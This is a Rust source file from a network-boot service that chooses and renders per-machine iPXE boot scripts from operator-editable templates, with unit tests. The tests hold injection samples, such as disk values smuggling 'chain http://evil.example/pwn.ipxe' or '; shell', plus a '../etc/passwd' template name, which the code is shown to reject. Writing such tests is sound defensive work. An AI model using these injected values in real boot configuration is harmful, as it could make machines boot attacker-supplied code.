//! The per-machine iPXE script: which one a machine gets ([`decide_script`]) and its text
//! ([`ScriptTemplates::render`]).
//!
//! Templates use minijinja rather than askama (used for the dashboard) because operators edit
//! them at run time: a file dropped into `boot.scripts_dir` is used on the very next fetch,
//! without a rebuild or restart. minijinja compiles templates at run time, speaks the Jinja2
//! syntax operators already know, cannot touch the filesystem or run commands from inside a
//! template, and its `{{ }}` / `{% %}` markers do not collide with iPXE's own `${var}`
//! settings, so a template can use both.

use std::io;
use std::path::{Path, PathBuf};

use minijinja::{Environment, ErrorKind, UndefinedBehavior};
use serde::Serialize;

use crate::boot::script_value::{check_script_value, inert_script_text};
use crate::mac::Mac;
use crate::store::{Machine, MachineState, Profile, Variables};

/// Built-in templates, compiled in; a file of the same name in the scripts dir overrides one.
const BUILTIN_TEMPLATES: &[(&str, &str)] = &[
    (
        "install.ipxe",
        include_str!("../../../boot-scripts/install.ipxe"),
    ),
    (
        "local.ipxe",
        include_str!("../../../boot-scripts/local.ipxe"),
    ),
    (
        "discovery.ipxe",
        include_str!("../../../boot-scripts/discovery.ipxe"),
    ),
];

pub const LOCAL_TEMPLATE: &str = "local.ipxe";
pub const DISCOVERY_TEMPLATE: &str = "discovery.ipxe";

/// Every iPXE script must start with this, or iPXE refuses to run it.
pub const IPXE_MAGIC: &str = "#!ipxe";

/// What a machine's next boot script is, decided from its inventory state alone.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScriptChoice {
    /// Boot the profile (install or run it) with this template, every time.
    Install { template: String },
    /// Boot the profile once: only the fetch that wins `Store::consume_reinstall` gets it;
    /// any other gets [`ScriptChoice::Local`].
    InstallOnce { template: String },
    /// Leave iPXE and boot the local disk.
    Local,
    /// Not bootable yet: show why, wait and fetch the script again.
    Wait { reason: WaitReason },
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WaitReason {
    /// Never seen before this fetch.
    Unknown,
    /// Seen, not yet approved by an operator.
    Discovered,
    /// Approved but no profile assigned, so there is nothing to boot.
    NoProfile,
    /// The assigned profile does not exist (any more).
    MissingProfile(String),
}

impl std::fmt::Display for WaitReason {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            WaitReason::Unknown => f.write_str("unknown machine, now registered as discovered"),
            WaitReason::Discovered => f.write_str("discovered, not approved yet"),
            WaitReason::NoProfile => f.write_str("no profile assigned"),
            WaitReason::MissingProfile(p) => write!(f, "profile {p} does not exist"),
        }
    }
}

impl ScriptChoice {
    /// Short name for events and logs.
    pub fn kind(&self) -> &'static str {
        match self {
            ScriptChoice::Install { .. } => "install",
            ScriptChoice::InstallOnce { .. } => "reinstall",
            ScriptChoice::Local => "local",
            ScriptChoice::Wait { .. } => "wait",
        }
    }

    pub fn template(&self) -> &str {
        match self {
            ScriptChoice::Install { template } | ScriptChoice::InstallOnce { template } => template,
            ScriptChoice::Local => LOCAL_TEMPLATE,
            ScriptChoice::Wait { .. } => DISCOVERY_TEMPLATE,
        }
    }
}

/// `profile` is the machine's profile as loaded from the store (None if it has none or it
/// is gone).
pub fn decide_script(machine: Option<&Machine>, profile: Option<&Profile>) -> ScriptChoice {
    let Some(machine) = machine else {
        return ScriptChoice::Wait {
            reason: WaitReason::Unknown,
        };
    };
    let bootable_profile = || match (&machine.profile, profile) {
        (None, _) => Err(WaitReason::NoProfile),
        (Some(name), Some(p)) if &p.name == name => Ok(p.template.clone()),
        (Some(name), _) => Err(WaitReason::MissingProfile(name.clone())),
    };
    match machine.state {
        MachineState::Discovered | MachineState::Ignored => ScriptChoice::Wait {
            reason: WaitReason::Discovered,
        },
        MachineState::Local => ScriptChoice::Local,
        MachineState::Ready => match bootable_profile() {
            Ok(template) => ScriptChoice::Install { template },
            Err(reason) => ScriptChoice::Wait { reason },
        },
        // Without a profile a reinstall cannot happen; keep the request pending rather than
        // consuming it.
        MachineState::Reinstall => match bootable_profile() {
            Ok(template) => ScriptChoice::InstallOnce { template },
            Err(reason) => ScriptChoice::Wait { reason },
        },
    }
}

/// URLs a script points at, all derived from the base the machine reached us on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScriptUrls {
    /// `http://[2001:db8::1]:8080`, no trailing slash.
    pub http_base: String,
}

impl ScriptUrls {
    pub fn assets_base(&self) -> String {
        format!("{}/assets", self.http_base)
    }

    pub fn script_url(&self, mac: Mac) -> String {
        format!("{}/boot/{mac}.ipxe", self.http_base)
    }

    /// Where the installed system reports that it is done (`POST`).
    pub fn done_url(&self, mac: Mac) -> String {
        format!("{}/boot/{mac}/done", self.http_base)
    }

    /// A profile path is relative to the assets; a full URL is used as it is.
    fn asset_url(&self, path: &str) -> String {
        if path.contains("://") {
            path.to_string()
        } else {
            format!("{}/{}", self.assets_base(), path.trim_start_matches('/'))
        }
    }
}

/// Everything a template can use. Field names are the template variables (see the
/// built-ins in `boot-scripts/`).
#[derive(Debug, Clone, Serialize)]
pub struct ScriptContext {
    pub machine: MachineView,
    pub profile: Option<ProfileView>,
    /// Profile variables overlaid by machine variables (same as `profile.variables`).
    pub variables: Variables,
    pub http_base: String,
    pub assets_base: String,
    /// This machine's own script URL, for `chain`.
    pub script_url: String,
    /// `POST` here when the install (or whatever the profile runs) has finished.
    pub done_url: String,
    pub retry_secs: u32,
    /// Why the machine waits (discovery script only), else empty.
    pub reason: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct MachineView {
    pub mac: String,
    pub hostname: String,
    pub state: String,
    pub arch: String,
    pub variables: Variables,
}

#[derive(Debug, Clone, Serialize)]
pub struct ProfileView {
    pub name: String,
    /// As stored: a path under the assets or a full URL.
    pub kernel: String,
    pub initrd: String,
    /// Rendered as a template itself, so it may use `{{ machine.hostname }}` and friends.
    pub cmdline: String,
    pub kernel_url: String,
    pub initrd_url: String,
    /// The initrd's file name, for `initrd=<name>` on the kernel command line.
    pub initrd_name: String,
    /// Profile variables overlaid by machine variables.
    pub variables: Variables,
}

impl ScriptContext {
    pub fn new(
        mac: Mac,
        machine: Option<&Machine>,
        profile: Option<&Profile>,
        choice: &ScriptChoice,
        urls: &ScriptUrls,
        retry_secs: u32,
    ) -> ScriptContext {
        let machine_vars = machine.map(|m| m.variables.clone()).unwrap_or_default();
        let mut merged = profile.map(|p| p.variables.clone()).unwrap_or_default();
        merged.extend(machine_vars.clone());
        let profile = profile.map(|p| ProfileView {
            name: p.name.clone(),
            kernel: p.kernel.clone(),
            initrd: p.initrd.clone(),
            cmdline: p.cmdline.clone(),
            kernel_url: urls.asset_url(&p.kernel),
            initrd_url: urls.asset_url(&p.initrd),
            initrd_name: file_name_of(&p.initrd),
            variables: merged.clone(),
        });
        ScriptContext {
            machine: MachineView {
                mac: mac.to_string(),
                hostname: machine.map(|m| m.hostname.clone()).unwrap_or_default(),
                state: machine
                    .map(|m| m.state.as_str().to_string())
                    .unwrap_or_else(|| "unknown".into()),
                arch: machine.map(|m| m.arch.clone()).unwrap_or_default(),
                variables: machine_vars,
            },
            profile,
            variables: merged,
            http_base: urls.http_base.clone(),
            assets_base: urls.assets_base(),
            script_url: urls.script_url(mac),
            done_url: urls.done_url(mac),
            retry_secs,
            reason: match choice {
                ScriptChoice::Wait { reason } => reason.to_string(),
                _ => String::new(),
            },
        }
    }
}

/// Last path segment of a path or URL, without query or fragment.
fn file_name_of(path_or_url: &str) -> String {
    let path = path_or_url
        .split(['?', '#'])
        .next()
        .unwrap_or_default()
        .trim_end_matches('/');
    path.rsplit('/').next().unwrap_or_default().to_string()
}

#[derive(Debug, thiserror::Error)]
pub enum ScriptError {
    #[error("template name {0:?} is not a plain file name")]
    BadName(String),
    #[error("template {0:?} not found in the scripts dir or the built-ins")]
    NotFound(String),
    #[error("template {name:?}: {source:#}")]
    Render {
        name: String,
        source: minijinja::Error,
    },
    #[error("template {0:?} does not produce a script starting with #!ipxe")]
    NoMagic(String),
}

/// Loads templates from the operator's scripts dir, falling back to the built-ins.
#[derive(Debug, Clone)]
pub struct ScriptTemplates {
    pub dir: PathBuf,
}

impl ScriptTemplates {
    pub fn new(dir: PathBuf) -> ScriptTemplates {
        ScriptTemplates { dir }
    }

    /// Render `name` with `ctx`. Reads the scripts dir on every call (so edits take effect
    /// at once): call from a blocking-capable context.
    pub fn render(&self, name: &str, ctx: &ScriptContext) -> Result<String, ScriptError> {
        self.render_noting_sources(name, ctx).map(|(text, _)| text)
    }

    /// [`ScriptTemplates::render`], also returning every template file it consulted (the
    /// named one and any it includes) with its [`FileStamp`] taken *before* reading it, so a
    /// cached script can be checked against the files with one `stat` each.
    pub fn render_noting_sources(
        &self,
        name: &str,
        ctx: &ScriptContext,
    ) -> Result<(String, Vec<TemplateSource>), ScriptError> {
        if !is_plain_template_name(name) {
            return Err(ScriptError::BadName(name.to_string()));
        }
        let sources = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let env = self.environment(Some(sources.clone()));
        let render_err = |source| ScriptError::Render {
            name: name.to_string(),
            source,
        };
        let mut ctx = ctx.clone();
        // The cmdline is rendered with a context whose cmdline is empty, so it cannot
        // refer to itself.
        let cmdline_free = ctx_without_cmdline(&ctx);
        if let Some(profile) = ctx.profile.as_mut() {
            let rendered_cmdline = env
                .render_str(&profile.cmdline, &cmdline_free)
                .map_err(render_err)?;
            profile.cmdline = rendered_cmdline.trim().to_string();
        }
        let template = env.get_template(name).map_err(|e| match e.kind() {
            ErrorKind::TemplateNotFound => ScriptError::NotFound(name.to_string()),
            _ => render_err(e),
        })?;
        let mut text = template.render(&ctx).map_err(render_err)?;
        if !text.trim_start().starts_with(IPXE_MAGIC) {
            return Err(ScriptError::NoMagic(name.to_string()));
        }
        if !text.ends_with('\n') {
            text.push('\n');
        }
        drop(env);
        let sources = std::mem::take(&mut *sources.lock().unwrap_or_else(|e| e.into_inner()));
        Ok((text, sources))
    }

    /// Compile every template in the scripts dir and every built-in one; `name: error` for
    /// each that does not compile. Blocking (reads the dir).
    pub fn check_all(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&self.dir)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .filter(|n| is_plain_template_name(n) && n.ends_with(".ipxe"))
                    .collect()
            })
            .unwrap_or_default();
        names.extend(BUILTIN_TEMPLATES.iter().map(|(n, _)| n.to_string()));
        names.sort();
        names.dedup();
        let env = self.environment(None);
        names
            .into_iter()
            .filter_map(|name| {
                let e = env.get_template(&name).err()?;
                Some(format!("{name}: {e}"))
            })
            .collect()
    }

    fn environment(&self, noted: Option<NotedSources>) -> Environment<'static> {
        let mut env = Environment::new();
        // Printing an undefined value is an error (a typo must not silently produce a
        // broken kernel command line); `{% if variables.x %}` on a missing key still works.
        env.set_undefined_behavior(UndefinedBehavior::SemiStrict);
        // Every printed value is checked, `| safe` or not: stored data must never add a
        // line or a command to a script (see `script_value`).
        env.set_formatter(|out, _state, value| {
            let text = if value.is_undefined() {
                String::new()
            } else {
                value.to_string()
            };
            check_script_value(&text).map_err(|why| {
                minijinja::Error::new(
                    ErrorKind::InvalidOperation,
                    format!("a value printed into the script {why}"),
                )
            })?;
            out.write_str(&text).map_err(minijinja::Error::from)
        });
        let dir = self.dir.clone();
        env.set_loader(move |name| {
            if let (Some(noted), true) = (&noted, is_plain_template_name(name)) {
                let source = TemplateSource {
                    path: dir.join(name),
                    stamp: FileStamp::of(&dir.join(name)),
                };
                noted.lock().unwrap_or_else(|e| e.into_inner()).push(source);
            }
            load_template(&dir, name)
        });
        env
    }
}

type NotedSources = std::sync::Arc<std::sync::Mutex<Vec<TemplateSource>>>;

/// A template file a rendered script came from, as it was when it was read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TemplateSource {
    pub path: PathBuf,
    pub stamp: FileStamp,
}

impl TemplateSource {
    /// Whether the file is still as it was (one `stat`).
    pub fn unchanged(&self) -> bool {
        self.stamp.is_known() && FileStamp::of(&self.path) == self.stamp
    }
}

/// What `stat` says about a template file: identity, size and both times. The change time
/// cannot be set back by a copy that keeps the modification time (`cp -p`, `rsync -a`), and
/// a file replaced by a rename has a new inode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileStamp {
    /// Not there: the built-in of that name (if any) was used.
    Absent,
    /// Could not be examined (permissions, I/O): never equal to anything, so a script from
    /// it is never taken as current.
    Unknown,
    Present {
        dev: u64,
        ino: u64,
        len: u64,
        mtime: (i64, i64),
        ctime: (i64, i64),
    },
}

impl FileStamp {
    pub fn of(path: &Path) -> FileStamp {
        use std::os::unix::fs::MetadataExt;
        match std::fs::metadata(path) {
            Ok(m) => FileStamp::Present {
                dev: m.dev(),
                ino: m.ino(),
                len: m.len(),
                mtime: (m.mtime(), m.mtime_nsec()),
                ctime: (m.ctime(), m.ctime_nsec()),
            },
            Err(e) if e.kind() == io::ErrorKind::NotFound => FileStamp::Absent,
            Err(_) => FileStamp::Unknown,
        }
    }

    /// Whether a script rendered from this may be reused at all.
    pub fn is_known(&self) -> bool {
        !matches!(self, FileStamp::Unknown)
    }
}

fn ctx_without_cmdline(ctx: &ScriptContext) -> ScriptContext {
    let mut c = ctx.clone();
    if let Some(p) = c.profile.as_mut() {
        p.cmdline = String::new();
    }
    c
}

fn load_template(dir: &Path, name: &str) -> Result<Option<String>, minijinja::Error> {
    if !is_plain_template_name(name) {
        return Ok(None);
    }
    match std::fs::read_to_string(dir.join(name)) {
        Ok(text) => Ok(Some(text)),
        Err(e) if e.kind() == io::ErrorKind::NotFound => {
            Ok(builtin_template(name).map(String::from))
        }
        Err(e) => Err(minijinja::Error::new(
            ErrorKind::InvalidOperation,
            format!("reading {}: {e}", dir.join(name).display()),
        )),
    }
}

pub fn builtin_template(name: &str) -> Option<&'static str> {
    BUILTIN_TEMPLATES
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, text)| *text)
}

/// Template names come from profiles (operator input): a single plain file name only.
pub fn is_plain_template_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 128
        && !name.starts_with('.')
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// A script for when the real one cannot be built (broken or missing template): says why
/// on the console and retries, so fixing the template boots the machine without a power
/// cycle. Not a template itself, since the templates are what failed.
pub fn fallback_script(error: &str, script_url: &str, retry_secs: u32) -> String {
    // iPXE expands `${…}` in echo arguments and the error may quote operator data: keep
    // the message literal, on one line and one command.
    let message = inert_script_text(error);
    format!(
        "{IPXE_MAGIC}\necho bootforge: cannot build this machine's boot script: {message}\n\
         echo Retrying in {retry_secs} seconds.\nsleep {retry_secs}\nchain --replace {script_url}\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const MAC: Mac = Mac([0x52, 0x54, 0, 0x12, 0x34, 0x56]);

    fn machine(state: MachineState, profile: Option<&str>) -> Machine {
        Machine {
            mac: MAC,
            hostname: "node1".into(),
            profile: profile.map(String::from),
            state,
            variables: json!({"disk": "/dev/vda"}).as_object().cloned().unwrap(),
            arch: "x64".into(),
            mac_source: String::new(),
            last_seen: None,
            last_address: None,
            last_stage: None,
            created_at: 0,
            updated_at: 0,
        }
    }

    fn profile() -> Profile {
        Profile {
            name: "debian".into(),
            description: String::new(),
            kernel: "debian/linux".into(),
            initrd: "debian/initrd.gz".into(),
            cmdline: "console=ttyS0 hostname={{ machine.hostname }} disk={{ variables.disk }}"
                .into(),
            template: "install.ipxe".into(),
            variables: json!({"disk": "/dev/sda", "suite": "bookworm"})
                .as_object()
                .cloned()
                .unwrap(),
        }
    }

    fn urls() -> ScriptUrls {
        ScriptUrls {
            http_base: "http://[2001:db8::1]:8080".into(),
        }
    }

    #[test]
    fn decision_covers_every_state() {
        let p = profile();
        assert_eq!(
            decide_script(None, None),
            ScriptChoice::Wait {
                reason: WaitReason::Unknown
            }
        );
        let m = machine(MachineState::Discovered, None);
        assert_eq!(decide_script(Some(&m), None).kind(), "wait");
        let m = machine(MachineState::Ready, Some("debian"));
        assert_eq!(
            decide_script(Some(&m), Some(&p)),
            ScriptChoice::Install {
                template: "install.ipxe".into()
            }
        );
        let m = machine(MachineState::Reinstall, Some("debian"));
        assert_eq!(
            decide_script(Some(&m), Some(&p)),
            ScriptChoice::InstallOnce {
                template: "install.ipxe".into()
            }
        );
        // Local wins even with a profile.
        let m = machine(MachineState::Local, Some("debian"));
        assert_eq!(decide_script(Some(&m), Some(&p)), ScriptChoice::Local);
    }

    #[test]
    fn ready_or_reinstall_without_a_usable_profile_waits() {
        for state in [MachineState::Ready, MachineState::Reinstall] {
            let m = machine(state, None);
            assert_eq!(
                decide_script(Some(&m), None),
                ScriptChoice::Wait {
                    reason: WaitReason::NoProfile
                }
            );
            let m = machine(state, Some("gone"));
            assert_eq!(
                decide_script(Some(&m), Some(&profile())),
                ScriptChoice::Wait {
                    reason: WaitReason::MissingProfile("gone".into())
                }
            );
        }
    }

    #[test]
    fn profile_template_name_is_used() {
        let mut p = profile();
        p.template = "custom.ipxe".into();
        let m = machine(MachineState::Ready, Some("debian"));
        assert_eq!(decide_script(Some(&m), Some(&p)).template(), "custom.ipxe");
    }

    fn render(choice: &ScriptChoice, m: Option<&Machine>, p: Option<&Profile>) -> String {
        let dir = tempfile::tempdir().unwrap();
        let ctx = ScriptContext::new(MAC, m, p, choice, &urls(), 7);
        ScriptTemplates::new(dir.path().to_path_buf())
            .render(choice.template(), &ctx)
            .unwrap()
    }

    #[test]
    fn install_script_has_kernel_initrd_and_rendered_cmdline() {
        let m = machine(MachineState::Ready, Some("debian"));
        let p = profile();
        let text = render(&decide_script(Some(&m), Some(&p)), Some(&m), Some(&p));
        assert!(text.starts_with("#!ipxe\n"), "{text}");
        // Machine variables win over profile variables.
        assert!(
            text.contains(
                "kernel http://[2001:db8::1]:8080/assets/debian/linux initrd=initrd.gz \
                 console=ttyS0 hostname=node1 disk=/dev/vda\n"
            ),
            "{text}"
        );
        assert!(
            text.contains(
                "initrd --name initrd.gz http://[2001:db8::1]:8080/assets/debian/initrd.gz\n"
            ),
            "{text}"
        );
        assert!(text.trim_end().ends_with("boot"), "{text}");
    }

    #[test]
    fn install_without_initrd_has_no_initrd_lines() {
        let m = machine(MachineState::Ready, Some("debian"));
        let mut p = profile();
        p.initrd = String::new();
        p.kernel = "http://mirror.example/linux".into();
        let text = render(&decide_script(Some(&m), Some(&p)), Some(&m), Some(&p));
        assert!(!text.contains("initrd"), "{text}");
        assert!(text.contains("kernel http://mirror.example/linux console=ttyS0"));
    }

    #[test]
    fn discovery_script_waits_and_chains_back() {
        let choice = decide_script(None, None);
        let text = render(&choice, None, None);
        assert!(text.starts_with("#!ipxe\n"), "{text}");
        assert!(text.contains("sleep 7\n"), "{text}");
        assert!(
            text.contains("chain --replace http://[2001:db8::1]:8080/boot/52:54:00:12:34:56.ipxe"),
            "{text}"
        );
        assert!(text.contains("unknown machine"), "{text}");
    }

    #[test]
    fn local_script_exits() {
        let m = machine(MachineState::Local, None);
        let text = render(&ScriptChoice::Local, Some(&m), None);
        assert!(text.starts_with("#!ipxe\n"));
        assert!(text.trim_end().ends_with("exit"), "{text}");
    }

    #[test]
    fn operator_file_overrides_builtin_and_is_reread() {
        let dir = tempfile::tempdir().unwrap();
        let t = ScriptTemplates::new(dir.path().to_path_buf());
        let ctx = ScriptContext::new(MAC, None, None, &ScriptChoice::Local, &urls(), 5);
        assert!(t.render("local.ipxe", &ctx).unwrap().contains("exit"));
        std::fs::write(
            dir.path().join("local.ipxe"),
            "#!ipxe\necho mine {{ machine.mac }}\n",
        )
        .unwrap();
        assert_eq!(
            t.render("local.ipxe", &ctx).unwrap(),
            "#!ipxe\necho mine 52:54:00:12:34:56\n"
        );
    }

    #[test]
    fn broken_templates_are_errors_not_broken_scripts() {
        let dir = tempfile::tempdir().unwrap();
        let t = ScriptTemplates::new(dir.path().to_path_buf());
        let ctx = ScriptContext::new(MAC, None, None, &ScriptChoice::Local, &urls(), 5);
        std::fs::write(
            dir.path().join("typo.ipxe"),
            "#!ipxe\necho {{ machine.hostnme }}\n",
        )
        .unwrap();
        assert!(matches!(
            t.render("typo.ipxe", &ctx),
            Err(ScriptError::Render { .. })
        ));
        std::fs::write(dir.path().join("nomagic.ipxe"), "echo hi\n").unwrap();
        assert!(matches!(
            t.render("nomagic.ipxe", &ctx),
            Err(ScriptError::NoMagic(_))
        ));
        assert!(matches!(
            t.render("missing.ipxe", &ctx),
            Err(ScriptError::NotFound(_))
        ));
        assert!(matches!(
            t.render("../etc/passwd", &ctx),
            Err(ScriptError::BadName(_))
        ));
    }

    #[test]
    fn fallback_script_is_literal_and_retries() {
        let s = fallback_script("bad ${x}\nline", "http://[::1]:1/boot/m.ipxe", 3);
        assert!(s.starts_with("#!ipxe\n"));
        assert!(!s.contains("${x}"));
        assert!(s.contains("chain --replace http://[::1]:1/boot/m.ipxe\n"));
    }

    /// Values that reach the renderer without input validation (an old row, a direct
    /// database edit, a cmdline that prints a newline) still cannot add a line or command.
    #[test]
    fn stored_values_cannot_add_lines_or_commands() {
        let t = ScriptTemplates::new(tempfile::tempdir().unwrap().path().to_path_buf());
        let injections = [
            "/dev/sda\nchain http://evil.example/pwn.ipxe\n#",
            "/dev/sda || chain http://evil.example/pwn.ipxe",
            "/dev/sda ; shell",
            "/dev/sda \\",
        ];
        for bad in injections {
            let mut m = machine(MachineState::Ready, Some("debian"));
            m.variables.insert("disk".into(), json!(bad));
            let p = profile();
            let choice = decide_script(Some(&m), Some(&p));
            let ctx = ScriptContext::new(MAC, Some(&m), Some(&p), &choice, &urls(), 7);
            let err = t.render(choice.template(), &ctx).unwrap_err();
            assert!(matches!(err, ScriptError::Render { .. }), "{bad:?}: {err}");
        }
        let m = machine(MachineState::Ready, Some("debian"));
        // Printed by the cmdline template itself, even marked safe; or a line break typed
        // into the cmdline text, caught where the cmdline is printed.
        for cmdline in [
            "console=ttyS0 {{ \"\\n\" | safe }}chain http://evil.example/x",
            "console=ttyS0\nchain http://evil.example/x",
        ] {
            let mut p = profile();
            p.cmdline = cmdline.into();
            let choice = decide_script(Some(&m), Some(&p));
            let ctx = ScriptContext::new(MAC, Some(&m), Some(&p), &choice, &urls(), 7);
            assert!(t.render(choice.template(), &ctx).is_err(), "{cmdline:?}");
        }
    }

    #[test]
    fn fallback_script_cannot_be_steered_by_the_error_text() {
        let s = fallback_script(
            "bad ; chain http://evil.example/x || shell #",
            "http://[::1]:1/boot/m.ipxe",
            3,
        );
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 5, "{s}");
        assert!(lines[1].starts_with("echo "), "{s}");
        assert_eq!(check_script_value(lines[1]), Ok(()), "{s}");
    }

    #[test]
    fn file_names_of_paths_and_urls() {
        assert_eq!(file_name_of("debian/initrd.gz"), "initrd.gz");
        assert_eq!(file_name_of("http://h/x/initrd.img?v=1"), "initrd.img");
        assert_eq!(file_name_of("initrd"), "initrd");
    }

    #[test]
    fn check_all_names_the_broken_templates() {
        let dir = tempfile::tempdir().unwrap();
        let t = ScriptTemplates::new(dir.path().to_path_buf());
        assert!(t.check_all().is_empty(), "the built-ins compile");
        std::fs::write(dir.path().join("good.ipxe"), "#!ipxe\necho {{ mac }}\n").unwrap();
        std::fs::write(dir.path().join("broken.ipxe"), "#!ipxe\n{% if x %}\n").unwrap();
        std::fs::write(dir.path().join("notes.txt"), "{% not a template").unwrap();
        let errors = t.check_all();
        assert_eq!(errors.len(), 1, "{errors:?}");
        assert!(errors[0].starts_with("broken.ipxe: "), "{errors:?}");
    }
}
